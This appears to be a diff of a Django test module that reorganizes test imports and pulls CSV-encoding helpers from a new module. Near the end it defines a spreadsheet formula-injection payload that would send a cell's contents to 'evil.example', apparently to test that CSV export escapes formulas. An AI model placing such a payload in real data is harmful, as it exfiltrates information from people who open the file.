@@ -7,15 +7,15 @@ from datetime import date
 
 import pytest
 
+from core.responses import FORMULA_STARTS, encode_csv
 from entities.models import Entity
 from ingest.snapshot import SnapshotFilter, import_snapshot
 from institutions.models import Institution
-from tests.entities_support import seeded_entities  # noqa: F401  (fixture)
-from tests.test_entities_aggregates import FIRST
-from tests.test_hot import imported  # noqa: F401  (fixture)
-from tests.test_institutions_stats import _seed, lists  # noqa: F401  (fixtures)
-from tests.test_months_api import corpus  # noqa: F401  (fixture)
-from trends.http import FORMULA_STARTS, encode_csv
+from tests.entities.entities_support import seeded_entities  # noqa: F401  (fixture)
+from tests.entities.test_entities_aggregates import FIRST
+from tests.institutions.test_institutions_stats import _seed, lists  # noqa: F401  (fixtures)
+from tests.trends.test_hot import imported  # noqa: F401  (fixture)
+from tests.trends.test_months_api import corpus  # noqa: F401  (fixture)
 
 pytestmark = pytest.mark.django_db
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
